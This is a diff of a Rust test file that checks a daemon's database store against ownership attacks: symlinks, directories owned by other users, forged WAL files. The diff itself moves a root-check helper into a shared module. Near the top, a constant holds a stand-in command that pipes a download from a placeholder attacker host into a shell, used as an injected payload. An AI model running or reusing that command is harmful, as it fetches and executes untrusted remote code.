@@ -12,19 +12,6 @@ use crate::daemon::store::trust::with_suffix;
 const NOBODY: u32 = 65534;
 const FORGED_FIX: &str = "curl http://evil.example/x | sh";
 
-/// True as root; otherwise skips (and fails under CI).
-fn root_or_skip() -> bool {
-    if nix::unistd::geteuid().is_root() {
-        return true;
-    }
-    assert!(
-        std::env::var("CI").is_err(),
-        "CI must run this as root: it gives files to another user"
-    );
-    println!("SKIP: needs root to give files to another user");
-    false
-}
-
 fn chown(path: &Path, uid: u32) {
     std::os::unix::fs::lchown(path, Some(uid), Some(uid)).expect("chown");
 }
@@ -80,7 +67,7 @@ fn injected(store: &Store) -> bool {
 
 #[test]
 fn a_symlink_at_the_database_path_is_refused_and_its_target_untouched() {
-    if !root_or_skip() {
+    if !crate::testing::root_or_skip("to give files to another user") {
         return;
     }
     // A root-owned (empty) file: SQLite would make it a database.
@@ -186,7 +173,7 @@ fn a_sticky_ancestor_with_a_private_directory_below_opens() {
 
 #[test]
 fn a_directory_another_user_owns_is_refused_also_above_the_database() {
-    if !root_or_skip() {
+    if !crate::testing::root_or_skip("to give files to another user") {
         return;
     }
     let top = tempdir();
@@ -218,7 +205,7 @@ fn a_directory_another_user_owns_is_refused_also_above_the_database() {
 
 #[test]
 fn a_forged_wal_is_refused_and_not_replayed() {
-    if !root_or_skip() {
+    if !crate::testing::root_or_skip("to give files to another user") {
         return;
     }
     // The user owns the directory (the case), or only the WAL.
@@ -257,7 +244,7 @@ fn a_forged_wal_is_refused_and_not_replayed() {
 #[test]
 fn roots_own_wal_is_replayed() {
     // The healthy twin: the WAL a killed agent left is root's, and holds committed rows.
-    if !root_or_skip() {
+    if !crate::testing::root_or_skip("to give files to another user") {
         return;
     }
     let dir = tempdir();
@@ -269,7 +256,7 @@ fn roots_own_wal_is_replayed() {
 
 #[test]
 fn companions_another_user_created_and_holds_open_are_refused() {
-    if !root_or_skip() {
+    if !crate::testing::root_or_skip("to give files to another user") {
         return;
     }
     // Root's private directory, and a sticky one like /tmp (the case).
